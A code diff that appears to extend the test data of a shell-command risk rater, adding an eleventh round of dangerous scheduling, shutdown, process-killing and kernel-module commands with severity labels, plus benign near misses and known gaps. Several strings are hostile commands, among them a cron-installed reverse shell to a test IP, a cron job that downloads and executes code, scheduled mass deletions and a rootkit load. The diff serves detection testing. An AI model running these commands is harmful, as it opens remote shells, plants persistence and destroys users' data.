@@ -1441,6 +1441,65 @@ ROUND10_BENIGN = [
     ("node -e \"require('fs').chmodSync('bin/cli.js', 0o755)\"", MODERATE),
 ]
 
+# -- an eleventh round: scheduling, power, processes, kernel modules --
+
+ROUND11 = [
+    ("crontab -u www-data -r", HIGH),
+    ("sudo crontab -r -u root", HIGH),
+    (
+        "echo '* * * * * /bin/sh -c \"sh -i >& /dev/tcp/203.0.113.5/4444 0>&1\"' | crontab -",
+        CRITICAL,
+    ),
+    (
+        "echo '*/2 * * * * python3 -c \"import urllib.request as u;exec(u.urlopen(\\'http://x.example/p\\').read())\"' | crontab -",  # noqa: E501
+        CRITICAL,
+    ),
+    ('(crontab -l 2>/dev/null; echo "@hourly $HOME/.cache/.u/run") | crontab -', CRITICAL),
+    ("echo '0 0 * * * root rm -rf /var/www/*' > /etc/cron.d/cleanup", CRITICAL),
+    ("echo '@daily rm -rf ~/Documents' | crontab -", CRITICAL),
+    ("echo 'rm -rf /home/*' | at 03:00 tomorrow", CRITICAL),
+    ("echo 'reboot' | at now + 10 minutes", HIGH),
+    ("systemd-run --on-active=5m systemctl poweroff", HIGH),
+    ("systemd-run --on-calendar=daily rm -rf /var/log", CRITICAL),
+    (
+        "systemd-run --user --on-calendar=hourly --unit=sync /home/alice/.local/share/.s/sync",
+        CRITICAL,
+    ),
+    ("sudo cp x.timer x.service /etc/systemd/system/ && sudo systemctl enable --now x.timer", HIGH),
+    (
+        "printf '[Timer]\\nOnCalendar=*:*:0/30\\n[Install]\\nWantedBy=timers.target\\n' > ~/.config/systemd/user/x.timer",  # noqa: E501
+        HIGH,
+    ),
+    ("launchctl load -w ~/Library/LaunchAgents/com.apple.update.plist", CRITICAL),
+    (
+        'schtasks /create /sc minute /tn sync /tr "cmd /c del /q C:\\\\Users\\\\bob\\\\Documents\\\\*"',  # noqa: E501
+        HIGH,
+    ),
+    ("shutdown -h 23:00", HIGH),
+    ("sudo shutdown -r now 'updates'", HIGH),
+    ("sudo halt --force --force", CRITICAL),
+    (
+        "echo s > /proc/sysrq-trigger; echo u > /proc/sysrq-trigger; echo b > /proc/sysrq-trigger",
+        CRITICAL,
+    ),
+    ("sudo init 0", HIGH),
+    ("sudo systemctl isolate emergency.target", HIGH),
+    ("pkill -KILL -u $(whoami)", HIGH),
+    ("kill -9 -- -1", HIGH),
+    ("sudo killall -9 WindowServer", HIGH),
+    ("sudo launchctl reboot", HIGH),
+    ("sudo sysctl -w kernel.kptr_restrict=0 kernel.dmesg_restrict=0", HIGH),
+    ("sudo modprobe -rf usb_storage", HIGH),
+    ("sudo insmod ./rootkit.ko hide=1", HIGH),
+]
+
+ROUND11_BENIGN = [
+    ("crontab -l | grep -v backup | crontab -", MODERATE),
+    ("systemctl suspend", MODERATE),
+    ("systemctl isolate multi-user.target", MODERATE),
+    ("killall -9 Dock", MODERATE),
+]
+
 DANGEROUS = [
     *WRAPPED,
     *FS_DELETE,
@@ -1466,6 +1525,7 @@ DANGEROUS = [
     *ROUND7,
     *ROUND9,
     *ROUND10,
+    *ROUND11,
 ]
 
 # -- near misses: the same tools, harmless ---------------------------------------------------------
@@ -1805,6 +1865,7 @@ ROUND8_BENIGN = [
 BENIGN += ROUND8_BENIGN
 BENIGN += ROUND9_BENIGN
 BENIGN += ROUND10_BENIGN
+BENIGN += ROUND11_BENIGN
 
 
 # Cases the rater does not meet yet: each fails today (strict xfail), so fixing one shows.
@@ -1832,6 +1893,8 @@ KNOWN_GAPS: frozenset[str] = frozenset(
         "bash <(echo rm -rf /)",
         "sh -c \"$(echo 'rm -rf /home/*')\"",
         "xargs -0 rm -rf < <(printf '%s\\0' ~/Documents ~/Pictures)",
+        "echo '*/2 * * * * python3 -c \"import urllib.request as u;exec(u.urlopen(\\'http://x.example/p\\').read())\"' | crontab -",  # noqa: E501
+        "sudo cp x.timer x.service /etc/systemd/system/ && sudo systemctl enable --now x.timer",
         "git clean -fd",
         "echo 'make test' | at now + 1 hour",
     )
